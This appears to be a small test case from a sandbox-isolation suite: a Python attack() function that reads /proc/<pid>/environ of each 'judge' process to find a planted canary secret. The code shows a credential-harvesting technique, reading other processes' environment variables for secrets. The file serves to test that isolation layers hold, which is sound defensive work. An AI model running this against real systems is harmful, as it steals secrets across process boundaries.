"""Looks for secrets in the environment of the judge.

shows: canary
layers: files user judge
"""
import outside


def attack():
    for pid in outside.judges():
        with open(f"/proc/{pid}/environ", "rb") as file:
            found = outside.secret(file.read())
        if found:
            return found
